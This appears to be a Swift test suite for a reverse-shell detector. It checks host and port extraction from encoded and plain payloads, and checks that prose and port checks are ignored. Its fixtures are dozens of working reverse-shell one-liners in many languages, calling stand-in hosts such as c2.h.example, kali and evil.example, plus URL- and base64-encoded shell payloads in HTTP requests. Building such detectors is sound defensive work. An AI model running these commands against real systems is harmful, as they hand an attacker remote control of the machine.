import Bytes
import Testing

@testable import Detectors

private func shells(_ text: String) -> [TextDetection] { text.withView { ReverseShellDetector().scan($0, .command) } }

/// Which host and which port, where colons, plus signs or plain words make it hard to tell.
@Suite struct ReverseShellEndpointTests {
  /// The colons of an IPv6 address part no port from it, and its brackets are not told.
  @Test(arguments: [
    "python3 -c 'import socket,os;s=socket.create_connection((\"2001:db8::5\",4444));os.dup2(s.fileno(),0);os.system(\"sh\")'",
    "python3 -c 'import socket,os,pty;s=socket.socket(10);s.connect((\"2001:db8::5\",4444,0,0));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "python3 -c 'import socket,os,pty;h=\"2001:db8::5\";s=socket.socket(10);s.connect((h,4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
    "ruby -rsocket -e 'f=TCPSocket.open(\"2001:db8::5\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d\",f,f)'",
    "node -e 'require(\"net\").connect(4444,\"2001:db8::5\",function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
    "node -e 'require(\"net\").connect({port:4444,host:\"2001:db8::5\"},function(){var s=require(\"child_process\").spawn(\"sh\");this.pipe(s.stdin);s.stdout.pipe(this)})'",
    "Process p=new ProcessBuilder(\"/bin/sh\").start();Socket s=new Socket(\"2001:db8::5\",4444);s.getInputStream();",
    "lua -e 'require(\"socket\");t=socket.tcp();t:connect(\"2001:db8::5\",\"4444\");os.execute(\"/bin/sh -i <&3 >&3\")'",
    "powershell -c \"$c=New-Object System.Net.Sockets.TCPClient('2001:db8::5',4444);$s=$c.GetStream();iex $d\"",
    "php -r '$s=fsockopen(\"[2001:db8::5]\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$s=fsockopen(\"tcp://[2001:db8::5]\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "php -r '$s=stream_socket_client(\"tcp://[2001:db8::5]:4444\");exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "perl -MIO::Socket -e '$c=IO::Socket::INET6->new(PeerAddr=>\"[2001:db8::5]:4444\");STDIN->fdopen($c,r);exec(\"sh\")'",
    "perl -MIO::Socket -e '$c=IO::Socket::INET6->new(PeerAddr=>\"2001:db8::5\",PeerPort=>4444);STDIN->fdopen($c,r);exec(\"sh\")'",
    "c,_:=net.Dial(\"tcp\",\"[2001:db8::5]:4444\");p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()",
    "socat TCP6:[2001:db8::5]:4444 EXEC:/bin/sh", "bash -i >& /dev/tcp/[2001:db8::5]/4444 0>&1",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect [2001:db8::5]:4444 > /tmp/s",
    "bash -i >& /dev/tcp/2001:db8::5/4444 0>&1", "nc -6 2001:db8::5 4444 -e /bin/sh",
  ])
  func anAddressKeepsItsColons(text: String) {
    let found = shells(text)
    #expect(found.count == 1)
    #expect(found.first?.host == "2001:db8::5")
    #expect(found.first?.port == 4444)
  }

  /// Hosts as numbers, with the dot that ends a name, in the environment, among other named arguments.
  @Test(arguments: [
    (
      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"3405803783\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
      "3405803783"
    ),
    ("php -r '$s=fsockopen(\"0xCB007107\",4444);exec(\"sh <&3 >&3 2>&3\");'", "0xCB007107"),
    (
      "ruby -rsocket -e 'f=TCPSocket.open(\"0313.0.0161.7\",4444).to_i;exec sprintf(\"sh -i <&%d >&%d\",f,f)'",
      "0313.0.0161.7"
    ),
    ("c,_:=net.Dial(\"tcp\",\"127.1:4444\");p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()", "127.1"),
    (
      "c,_:=tls.Dial(\"tcp\",\"c2.h.example:4444\",&cfg);p:=exec.Command(\"/bin/sh\");p.Stdin=c;p.Run()", "c2.h.example"
    ),
    (
      "node -e 'require(\"child_process\").spawn(\"sh\",{stdio:[s=require(\"net\").connect(4444,\"c2.h.example.\"),s,s]})'",
      "c2.h.example."
    ),
    (
      "lua -e 'require(\"socket\");t=socket.tcp();t:connect(\"kali\",\"4444\");os.execute(\"/bin/sh -i <&3 >&3\")'",
      "kali"
    ),
    (
      "lua -e 'local s=require(\"socket\").connect(\"c2.h.example\",4444);while 1 do s:send(io.popen(s:receive()):read(\"*a\")) end'",
      "c2.h.example"
    ),
    (
      "perl -MIO::Socket -e '$c=IO::Socket::INET->new(PeerAddr=>\"c2.h.example\",PeerPort=>4444,Proto=>\"tcp\");open STDIN,\"<&\",$c;exec \"sh\"'",
      "c2.h.example"
    ),
    (
      "R -e 's<-socketConnection(host=\"c2.h.example\",port=4444,blocking=TRUE,open=\"r+\");while(TRUE){writeLines(readLines(pipe(readLines(s,1))),s)}'",
      "c2.h.example"
    ),
    (
      "RHOST=kali;RPORT=4444;R -e 's<-socketConnection(host=Sys.getenv(\"RHOST\"),port=as.integer(Sys.getenv(\"RPORT\")),blocking=TRUE);while(TRUE){writeLines(system(readLines(s,1),intern=TRUE),s)}'",
      "kali"
    ),
    (
      "RHOST=kali;RPORT=4444;node -e 'sh=child_process.spawn(\"/bin/sh\");net.connect(process.env.RPORT,process.env.RHOST,function(){this.pipe(sh.stdin);sh.stdout.pipe(this)})'",
      "kali"
    ),
    (
      "require 'socket'\nrequire 'open3'\nRHOST = \"c2.h.example\"\nPORT = \"4444\"\ns = TCPSocket.new \"#{RHOST}\", \"#{PORT}\"\nwhile l = s.gets\n  Open3.popen2e(\"#{l}\") { |i, o| IO.copy_stream(o, s) }\nend",
      "c2.h.example"
    ),
    (
      "ruby -rsocket -e 's=UDPSocket.new;s.connect(\"c2.h.example\",4444);while c=s.recv(99);s.send(`#{c}`,0);end'",
      "c2.h.example"
    ),
    (
      "set s [socket -async c2.h.example 4444];while 1 {gets $s c;set e \"exec $c\";catch {set r [eval $e]};puts $s $r}",
      "c2.h.example"
    ),
    (
      "set h c2.h.example; set s [socket $h 4444];while 1 {gets $s c;set e \"exec $c\";catch {set r [eval $e]};puts $s $r}",
      "c2.h.example"
    ),
    (
      "erl -noshell -eval '{ok,S}=gen_tcp:connect(\"c2.h.example\",4444,[]),(fun F()->{ok,C}=gen_tcp:recv(S,0),gen_tcp:send(S,os:cmd(C)),F() end)()'",
      "c2.h.example"
    ),
    (
      "class S { function run() { $s = @fsockopen($this->addr, $this->port, $e, $t, 30); proc_open('/bin/sh', $d, $p); } }\n$x = new S('c2.h.example', 4444);",
      "c2.h.example"
    ),
    ("sh </tmp/p | openssl s_client -quiet -connect c2.h.example -port 4444", "c2.h.example"),
    ("zsh -c 'zmodload zsh/net/tcp && ztcp -d 9 c2.h.example 4444 && zsh 1>&9 2>&9 0>&9'", "c2.h.example"),
    ("socat dtls:c2.h.example:4444,verify=0 exec:sh", "c2.h.example"),
    ("sh -c 'socat TCP:c2.h.example:4444 EXEC:'\\''bash -li'\\'',pty,stderr,setsid'", "c2.h.example"),
    ("nc ::1 4444 -e bash", "::1"),
    (
      "import sys,socket,os,pty\nh = sys.argv[1] if len(sys.argv) > 1 else 'c2.h.example'\np = int(sys.argv[2]) if len(sys.argv) > 2 else 4444\ns=socket.socket()\ns.connect((h, p))\nos.dup2(s.fileno(),0)\npty.spawn('sh')",
      "c2.h.example"
    ),
  ])
  func readsTheHost(text: String, host: String) {
    let found = shells(text).first { $0.kind == .reverseShell }
    #expect(found?.host == host)
    #expect(found?.port == 4444)
  }

  /// A port check with the same words.
  @Test(arguments: [
    "require 'socket'\nrequire 'open3'\ns = TCPSocket.new \"#{HOST}\", \"#{PORT}\"\ns.puts 'x'\no, e = Open3.capture2(\"uptime\")",
    "ruby -rsocket -e 's=UDPSocket.new;s.send(\"a:1|c\",0,\"10.0.0.5\",8125); system(\"date\")'",
    "erl -noshell -eval '{ok,S}=gen_tcp:connect(\"10.0.0.5\",5672,[]),gen_tcp:close(S),io:format(os:cmd(\"date\"))'",
    "{\"cmd\":\"gawk 'BEGIN{s=\\\"/inet/tcp/0/www.h.example/80\\\"; print \\\"GET /\\\" |& s; while((s|&getline l)>0) print l}'\"}",
    "gawk 'BEGIN{s=\"/inet/tcp/0/www.h.example/80\"; print \"GET /\" |& s; while((s|&getline l)>0) print l}'; kubectl exec -it pod -- /bin/sh",
    "socat STDIO TCP:10.0.0.5:5000 | tee log", "set h [socket 10.0.0.5 80]; puts $h x; gets $h l; puts $l",
  ])
  func aCheckHasNoShell(text: String) { #expect(shells(text).isEmpty) }

  @Test(arguments: [
    ("[2001:db8::5]:4444", "2001:db8::5", 4444), ("::ffff:192.0.2.7:4444", "::ffff:192.0.2.7", 4444),
    ("[fe80::1%eth0]:4444", "fe80::1%eth0", 4444), ("tcp://192.0.2.7:4444", "192.0.2.7", 4444),
    ("kali:4444,verify=0", "kali", 4444),
  ])
  func aPairHasAPort(text: String, host: String, port: Int) {
    #expect(text.withView { Endpoint.pair($0) } == Endpoint(host: host, port: port))
  }

  @Test(arguments: [
    "2001:db8::5", "::1", "[2001:db8::5]", "::ffff:192.0.2.7", "fe80::1%eth0", "[2001:db8::5", "[]", "[",
  ])
  func anAddressAloneIsNoPair(text: String) { #expect(text.withView { Endpoint.pair($0)?.host } == nil) }

  /// A plus sign of Base64 that the request encoded stays one, however the blanks are written.
  @Test(arguments: ["%2B", "%2b", "%252B"], ["%20", "+", "%2520"])
  func base64KeepsItsPlusSigns(plus: String, blank: String) {
    let digits = "YmFzaCAtaSA\(plus)JiAvZGV2L3RjcC8yMDMuMC4xMTMuNzcvNDQ0NCAwPiYx"
    for text in [
      "GET /?c=echo\(blank)\(digits)%7Cbase64\(blank)-d%7Cbash",
      "GET /?c=echo\(blank)%22\(digits)%22%7Cbase64\(blank)-d%7Cbash HTTP/1.1",
      "GET /?cd\(blank)/tmp;echo\(blank)\(digits)|base64\(blank)-d|bash HTTP/1.1",
      "GET /?c=%7Becho,\(digits)%7D%7C%7Bbase64,-d%7D%7Cbash HTTP/1.1",
    ] {
      let found = shells(text).first
      #expect(found?.technique == "dev_tcp", "\(text)")
      #expect(found?.host == "203.0.113.77", "\(text)")
      #expect(found?.port == 4444, "\(text)")
    }
  }

  /// A form within a form writes its blanks as encoded plus signs.
  @Test(arguments: [
    "GET /?c=bash+-i+%3E%26+/dev/tcp/203.0.113.77/4444+0%3E%261",
    "GET /?c=bash%2B-i%2B%3E%26%2B/dev/tcp/203.0.113.77/4444%2B0%3E%261 HTTP/1.1",
    "GET /x?d=1&c=nc%2B-e%2B/bin/sh%2B203.0.113.77%2B4444",
  ])
  func aFormsPlusSignsAreBlanks(text: String) {
    #expect(shells(text).first?.host == "203.0.113.77")
    #expect(shells(text).first?.port == 4444)
  }

  /// Words about netcat name no host.
  @Test(arguments: [
    "echo \"nc -e /bin/sh is disabled in this build\" >> NOTES", "netcat with -e /bin/sh option",
    "ncat with -e /bin/sh", "ncat -e /bin/sh here",
    "do not use nc -e /bin/sh here", "we saw nc -e /bin/bash on the host", "nc -c bash doesn't work.",
    "nc -e /bin/sh was blocked by policy 42 times", "ncat --exec /bin/sh option is off", "run nc -e /bin/sh over ssh",
  ])
  func proseIsNoShell(text: String) { #expect(shells(text).isEmpty) }

  @Test(
    arguments: [
      ("ncat kali -e /bin/sh", "kali", 31337), ("nc -e /bin/sh to 192.0.2.1 on port 4444", "192.0.2.1", 4444),
      ("nc -e /bin/sh host 4444", "host", 4444), ("nc host 4444 -e sh", "host", 4444),
      ("nc kali https -e sh", "kali", 443),
      ("H=kali; P=4444; nc -e /bin/sh $H $P", "kali", 4444), ("nc -e /bin/sh evil.example", "evil.example", nil),
      ("nc -e /bin/sh $H $P", nil, nil), ("nc kali $P -e /bin/sh", "kali", nil),
      ("os.system(\"nc -e /bin/sh \" + host + \" \" + port)", nil, nil),
    ] as [(String, String?, Int?)])
  func aNamedHostIsAShell(text: String, host: String?, port: Int?) {
    let found = shells(text)
    #expect(found.count == 1)
    #expect(found.first?.host == host)
    #expect(found.first?.port == port)
  }
}
